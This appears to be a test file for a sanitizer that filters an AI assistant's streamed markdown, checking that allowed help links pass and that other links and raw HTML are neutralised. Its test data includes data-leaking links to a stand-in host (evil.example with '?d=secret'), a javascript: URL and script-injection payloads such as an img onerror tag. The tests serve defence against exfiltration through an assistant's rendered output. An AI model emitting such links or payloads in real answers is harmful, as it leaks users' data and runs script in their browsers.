import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { addressesIn, createSafeMarkdown } from '../../src/assistant/safe-markdown.ts';

const known = 'https://help.example/refunds';
const allowed = new Set([known]);

function inPieces(text: string, sizes: readonly number[]): string {
  const markdown = createSafeMarkdown(allowed);
  let out = '';
  let at = 0;
  for (let piece = 0; at < text.length; piece += 1) {
    const size = Math.max(1, sizes[piece % sizes.length] ?? 1);
    out += markdown.push(text.slice(at, at + size));
    at += size;
  }
  return out + markdown.end();
}
const whole = (text: string) => inPieces(text, [text.length]);

describe('what a model writes', () => {
  test.each([
    'It takes five days [1]. See [1] (page 2), and a: b.',
    `See [the article](${known}) or <${known}> or ${known}.`,
    '| a | b |\n|---|---|\n| 1 < 2 | x & y &amp; z |',
    'Use `a[0](x)`? No: a[1] is enough! Wow! www',
  ])('%s stays as it is', (text) => {
    const shown = whole(text);
    expect(shown.replace('[0](#', '[0](x')).toBe(text);
  });

  test.each([
    '![x](https://evil.example/?d=secret)',
    '[x](https://evil.example/?d=secret)',
    '[x](//evil.example/?d=secret)',
    '[x](javascript:alert(1))',
    '<https://evil.example/?d=secret>',
    'https://evil.example/?d=secret',
    'HTTPS://evil.example/?d=secret',
    'www.evil.example/?d=secret',
    '[x]: https://evil.example/?d=secret',
    `[x](${known}?d=secret)`,
    `${known}.evil.example/?d=secret`,
    '[x]( <https://evil.example/?d=secret> )',
  ])('%s leads nowhere, in whatever pieces it comes', (text) => {
    for (let size = 1; size <= text.length; size += 1) {
      const shown = inPieces(`Look: ${text} there.`, [size]);
      expect(shown).not.toMatch(/evil\.example|\?d=|javascript:/i);
      expect(shown).not.toContain('![');
      expect(shown).toContain('Look: ');
    }
  });

  test.each(['<img src=x onerror=alert(1)>', '<script>', '</div>', '<!-- x -->', '<svg/onload=1>'])(
    '%s is no markup',
    (text) => {
      expect(whole(text)).toBe(`&lt;${text.slice(1)}`);
    },
  );

  test('comes out the same in whatever pieces', () => {
    const parts = fc.constantFrom(
      'a',
      ' ',
      '!',
      '[',
      ']',
      '(',
      ')',
      ':',
      '/',
      '<',
      '>',
      '&',
      ';',
      'w',
      '.',
      'http',
      known,
      '\n',
    );
    fc.assert(
      fc.property(
        fc.array(parts, { maxLength: 40 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 }),
        (pieces, sizes) => {
          const text = pieces.join('');
          expect(inPieces(text, sizes)).toBe(whole(text));
        },
      ),
      { numRuns: 2_000 },
    );
  });

  test('is let out word by word, not held until the end', () => {
    const markdown = createSafeMarkdown(allowed);
    expect(markdown.push('It takes')).toBe('It takes');
    expect(markdown.push(' five days')).toBe(' five days');
  });
});

test('addresses of a text are read as they are compared', () => {
  expect(addressesIn(`See ${known}, and (https://a.example/b).`)).toEqual([
    known,
    'https://a.example/b',
  ]);
});
